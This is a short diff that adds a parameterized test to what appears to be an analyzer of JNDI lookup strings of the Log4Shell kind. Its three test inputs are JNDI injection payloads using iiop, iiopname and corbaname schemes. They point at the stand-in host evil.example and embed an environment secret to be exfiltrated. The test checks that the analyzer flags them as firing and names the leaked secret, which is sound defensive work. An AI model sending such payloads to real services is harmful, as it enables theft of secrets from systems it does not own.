@@ -141,3 +141,15 @@ test('a name whose port is none is looked up, and its provider refuses', () => {
     because: expect.stringContaining('no host and port') as string,
   })
 })
+
+test.each([
+  'iiop://evil.example/${env:SECRET_KEY}',
+  'iiopname://evil.example/${env:SECRET_KEY}',
+  'corbaname::evil.example#${env:SECRET_KEY}',
+])('%s is looked up, and asked for by a JDK up to 10', (name) => {
+  expect(readText(`\${jndi:${name}}`)).toMatchObject({
+    verdict: 'fires',
+    because: expect.stringContaining('a JDK from 11 on has no provider') as string,
+    leaks: [{ read: 'env:SECRET_KEY' }],
+  })
+})
